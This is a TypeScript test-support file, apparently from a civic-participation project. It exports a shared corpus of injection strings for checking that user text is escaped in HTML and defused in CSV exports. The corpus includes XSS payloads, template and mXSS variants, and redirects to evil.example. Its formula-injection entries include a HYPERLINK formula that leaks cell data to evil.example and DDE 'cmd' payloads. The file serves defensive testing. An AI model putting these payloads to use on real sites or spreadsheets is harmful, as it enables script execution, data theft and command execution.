// Text a hostile citizen (or a compromised staff account) types where free text goes. Used by the
// collector's injection suite and by the demo's end-to-end injection test (real widgets, real
// console): each payload that runs sets `window.__pwned`, so a test can tell that none did.
// Part of @participe/core/testing so that every suite (collector, demo, widgets) uses the same corpus.

/** Markup, URL and template payloads: rendered anywhere as HTML or evaluated, they would set `window.__pwned`. */
export const scriptInjections = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '<svg onload="window.__pwned=3"><circle r="1"/></svg>',
  '<a href="javascript:window.__pwned=4">lien</a>',
  'javascript:window.__pwned=5',
  '"><img src=x onerror=window.__pwned=6>',
  "'><svg/onload=window.__pwned=7>",
  '</textarea></dd><img src=x onerror=window.__pwned=8>',
  '<iframe srcdoc="<script>parent.__pwned=9</script>"></iframe>',
  '<details open ontoggle="window.__pwned=10">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=11>',
  '${window.__pwned=12}',
  '`${window.__pwned=13}`',
  '{{constructor.constructor("window.__pwned=14")()}}',
  '<!--?lit$1234$--><img src=x onerror=window.__pwned=15>',
  'lit$1234$ <?lit$5678$> {{lit}}',
  '<style>*{display:none!important}</style>',
  '&lt;b&gt; &amp;amp; &#60;i&#62; \u202eRTL\u202c \u200b',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
] as const;

/** Cell starts that spreadsheets run as formulas (CSV injection); the export must defuse them. */
export const formulaInjections = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez ici")',
  "=cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@=1+1',
] as const;

/** Text that breaks naive CSV writers: quotes, separators, line breaks. */
export const csvBreakers = ['a "quoted" word, and; more', 'line one\nline two\r\nline three', '","=1+1,"', 'café — 🇶🇨 ñ ü 中文'] as const;

export const injectionCorpus: readonly string[] = [...scriptInjections, ...formulaInjections, ...csvBreakers];

/**
 * The whole script corpus as one text of at most `max` characters, starting with a formula (so
 * that the CSV cell holding it must be defused) and ending without spaces (texts are trimmed).
 */
export function combinedInjection(max = 500): string {
  let text = '=HYPERLINK("https://evil.example")';
  for (const payload of scriptInjections) {
    if (text.length + 1 + payload.length > max) break;
    text += ` ${payload}`;
  }
  return text;
}

/** A spreadsheet runs a cell as a formula when it starts with one of these. */
export const formulaStart = /^[=+\-@\t\r]/;
